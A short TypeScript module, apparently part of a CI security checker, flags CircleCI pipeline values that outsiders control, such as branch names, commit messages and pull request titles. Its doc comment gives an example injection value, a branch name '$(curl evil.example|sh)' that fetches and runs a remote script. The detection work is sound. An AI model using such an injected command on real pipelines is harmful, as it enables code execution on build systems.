/**
 * Pipeline values that somebody without the right to change the configuration can choose: whoever opens a pull request
 * or pushes a branch names it, and a name may be `$(curl evil.example|sh)`.
 * https://circleci.com/docs/reference/variables/#pipeline-values
 */
export function isChosenByOutsiders(expression: string): boolean {
  return (
    /(?<![\w.])pipeline\.git\.(?:branch|tag)(?![\w.])/.test(expression) ||
    /(?<![\w.])pipeline\.git\.commit\.(?:subject|body|message|author_name)\b/.test(expression) ||
    /(?<![\w.])pipeline\.event\.[\w.]*\.(?:title|body|ref|label|message|name|description)(?![\w.])/.test(expression) ||
    /(?<![\w.])pipeline\.trigger_parameters\.[\w.]*(?:branch|tag|ref|title|message|body|user_name)(?![\w.])/.test(
      expression,
    )
  );
}

/** A tag that is no more than a parameter's name gives its value; in a comparison a value only decides something. */
export const isDecision = (expression: string): boolean =>
  /==|!=|\b(?:matches|starts-with|not)\b|[<>]/.test(expression);
